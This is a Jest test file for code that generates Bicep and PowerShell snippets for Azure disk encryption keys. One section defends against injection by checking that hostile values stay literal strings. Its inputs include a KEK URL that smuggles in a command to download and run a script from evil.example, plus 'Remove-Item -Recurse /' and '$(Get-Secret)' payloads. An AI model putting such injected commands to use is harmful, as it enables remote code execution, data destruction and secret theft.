import { describe, expect, test } from '@jest/globals'
import { bicepFile } from '../../../src/actions/create/snippets/bicep.ts'
import { bicepString, powerShellString } from '../../../src/ade/snippet-strings.ts'
import { type DiskBek, diskPlan } from '../../../src/actions/create/snippets/disks.ts'
import { powerShellScript } from '../../../src/actions/create/snippets/powershell.ts'
import { bicepDiskResources, checkBicep, checkPowerShell } from './snippet-checks.ts'

const KEK = 'https://bek-e2e.vault.azure.net/keys/disk-kek/0123456789abcdef0123456789abcdef'
const bek = (name: string, kekUrl = KEK): DiskBek => ({
  name,
  secretUrl: `https://bek-e2e.vault.azure.net/secrets/${name}/fedcba9876543210fedcba9876543210`,
  kekUrl
})
const ONE = diskPlan('linux', 'bek-e2e', [bek('vm-web-01')])
const BATCH = diskPlan('windows', 'bek-e2e', [bek('vm-web-01'), bek('vm-web-02'), bek('vm-web-03')])
// A reused BEK may be wrapped with a KEK of another vault.
const TWO_KEK_VAULTS = diskPlan('linux', 'bek-e2e', [
  bek('a'),
  bek('b', 'https://kek-vault.vault.azure.net/keys/k/00112233445566778899aabbccddeeff')
])
const VAULT_ID = '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-keys/providers/Microsoft.KeyVault/vaults/bek-e2e'
const WITH_IDS = diskPlan('linux', 'bek-e2e', [bek('vm-web-01')], new Map([['bek-e2e', VAULT_ID]]))
const HOSTILE = "https://bek-e2e.vault.azure.net/keys/k/v'; iex (iwr https://evil.example/p.ps1); ''"

describe('the checkers can fail', () => {
  // The summary's snippets before issue 12: a bare fragment, and a block with undefined variables.
  test('the old fragments are refused', () => {
    const oldBicep = [
      "resource kv 'Microsoft.KeyVault/vaults@2023-07-01' existing = { name: 'bek-e2e' }",
      'encryptionSettingsCollection: {',
      `  encryptionSettings: [ { diskEncryptionKey: { secretUrl: 'x', sourceVault: { id: kv.id } } } ]`,
      '}'
    ].join('\n')
    expect(bicepDiskResources(oldBicep)).toEqual([])
    const oldPowerShell = [
      "$kv = Get-AzKeyVault -VaultName 'bek-e2e'",
      '$vm = Set-AzVMOSDisk -VM $vm -Name $osDiskName -VhdUri $vhdUri -CreateOption Attach -Linux `',
      "  -DiskEncryptionKeyUrl 'x' -DiskEncryptionKeyVaultId $kv.ResourceId"
    ].join('\n')
    expect(checkPowerShell(oldPowerShell).undefinedVariables).toEqual(['vm', 'osDiskName', 'vhdUri'])
  })

  test('a broken Bicep file is refused', () => {
    expect(checkBicep("param a string\nvar b = c\nvar d = 'x\\q'\nvar e = {").problems).toEqual([
      expect.stringMatching(/^bad escape \\q at /),
      'unclosed }',
      "'c' is not declared"
    ])
  })
})

describe.each([
  ['one BEK', ONE],
  ['a batch', BATCH],
  ['KEKs in two vaults', TWO_KEK_VAULTS],
  ['vault resource IDs from ARM', WITH_IDS]
])('%s', (_, plan) => {
  const bicep = bicepFile(plan)
  const powerShell = powerShellScript(plan)

  test('Bicep: a complete Microsoft.Compute/disks resource with the encryption settings', () => {
    expect(checkBicep(bicep).problems).toEqual([])
    const disks = bicepDiskResources(bicep)
    expect(disks).toHaveLength(1)
    const [disk] = disks
    expect(disk.loop).toBe(plan.beks.length > 1)
    for (const part of [
      'name:',
      'location:',
      'sku:',
      'properties:',
      'creationData:',
      "createOption: 'Import'",
      'sourceUri:',
      'storageAccountId:'
    ]) {
      expect(disk.body).toContain(part)
    }
    expect(disk.body).toMatch(
      /encryptionSettingsCollection: \{\s+enabled: true\s+encryptionSettingsVersion: '1\.1'\s+encryptionSettings: \[/
    )
    expect(disk.body).toMatch(/diskEncryptionKey: \{\s+secretUrl: .+\s+sourceVault: \{\s+id: .+\s+\}/)
    expect(disk.body).toMatch(/keyEncryptionKey: \{\s+keyUrl: .+\s+sourceVault: \{\s+id: .+\s+\}/)
    expect(disk.body).toContain(`osType: '${plan.osType === 'linux' ? 'Linux' : 'Windows'}'`)
  })

  test('PowerShell: every variable is set or a parameter', () => {
    const check = checkPowerShell(powerShell)
    expect(check.problems).toEqual([])
    expect(check.undefinedVariables).toEqual([])
    expect(powerShell).toMatch(/^param\(/m)
    expect(powerShell).toMatch(/\bNew-AzDisk -ResourceGroupName \$ResourceGroupName/)
  })

  test('every BEK is in both, and each KEK URL and vault', () => {
    const bicepStrings = checkBicep(bicep).strings
    const powerShellStrings = checkPowerShell(powerShell).strings
    for (const { secretUrl, kekUrl } of plan.beks) {
      expect(bicepStrings).toEqual(expect.arrayContaining([secretUrl, kekUrl]))
      expect(powerShellStrings).toEqual(expect.arrayContaining([secretUrl, kekUrl]))
    }
    for (const vault of plan.vaults) {
      expect(bicepStrings).toContain(vault.id ?? vault.name)
      expect(powerShellStrings).toContain(vault.id ?? vault.name)
    }
  })
})

test('a batch loops over all its BEKs, in order', () => {
  const bicep = bicepFile(BATCH)
  expect(bicep).toMatch(/^resource disks 'Microsoft\.Compute\/disks@[\d-]+' = \[for bek in beks: \{/m)
  expect([...bicep.matchAll(/secretUrl: '([^']+)'/g)].map((m) => m[1])).toEqual(BATCH.beks.map((b) => b.secretUrl))
  const powerShell = powerShellScript(BATCH)
  expect(powerShell).toMatch(/^foreach \(\$bek in \$beks\) \{/m)
  expect([...powerShell.matchAll(/SecretUrl = '([^']+)'/g)].map((m) => m[1])).toEqual(BATCH.beks.map((b) => b.secretUrl))
  // A KEK URL all the BEKs share is said once (a batch may have 1000).
  expect(bicep.split(KEK)).toHaveLength(2)
  expect(powerShell.split(KEK)).toHaveLength(2)
})

test("past ARM's 800 resources a template, the Bicep says to split the list", () => {
  const many = (n: number) =>
    bicepFile(
      diskPlan(
        'linux',
        'bek-e2e',
        Array.from({ length: n }, (_, i) => bek(`vm-${i}`))
      )
    )
  expect(many(800)).not.toMatch(/at most 800 resources/)
  expect(many(801)).toMatch(/^\/\/ ARM deploys at most 800 resources from one template: split the list below\.$/m)
})

test('known vault resource IDs are used as they are, with no lookup', () => {
  expect(bicepFile(WITH_IDS)).toContain(`id: '${VAULT_ID}'`)
  expect(bicepFile(WITH_IDS)).not.toMatch(/existing/)
  expect(powerShellScript(WITH_IDS)).toContain(`$keyVaultId = '${VAULT_ID}'`)
  expect(powerShellScript(WITH_IDS)).not.toMatch(/Get-AzKeyVault/)
  expect(bicepFile(ONE)).toMatch(/resource keyVault 'Microsoft\.KeyVault\/vaults@[\d-]+' existing = \{\s+name: 'bek-e2e'/)
  expect(powerShellScript(ONE)).toContain("$keyVaultId = (Get-AzKeyVault -VaultName 'bek-e2e').ResourceId")
})

describe('hostile values stay literal strings', () => {
  const values = [
    HOSTILE,
    "a'b\\c${d}e",
    'line\nbreak\ttab',
    '\u2019; Remove-Item -Recurse / ; \u2018',
    '$(Get-Secret) `backtick` "double"'
  ]
  test.each(values)('Bicep %j', (value) => {
    const literal = bicepString(value)
    const check = checkBicep(`var x = ${literal}`)
    expect(check.problems).toEqual([])
    expect(check.strings).toEqual([value])
    expect(check.code).not.toMatch(/evil|Remove-Item|\bd\b/)
  })
  test.each(values)('PowerShell %j', (value) => {
    const literal = powerShellString(value)
    const check = checkPowerShell(`$x = ${literal}`)
    expect(check.problems).toEqual([])
    expect(check.strings).toEqual([value])
    expect(check.code).not.toMatch(/iex|iwr|Remove-Item|Get-Secret/)
  })

  test('a hostile KEK URL in a whole snippet', () => {
    const plan = diskPlan('linux', 'bek-e2e', [{ ...bek('vm'), kekUrl: HOSTILE }])
    const bicep = checkBicep(bicepFile(plan))
    expect(bicep.problems).toEqual([])
    expect(bicep.strings).toContain(HOSTILE)
    const powerShell = checkPowerShell(powerShellScript(plan))
    expect(powerShell.undefinedVariables).toEqual([])
    expect(powerShell.strings).toContain(HOSTILE)
    expect(powerShell.code).not.toMatch(/iex|iwr/)
  })
})
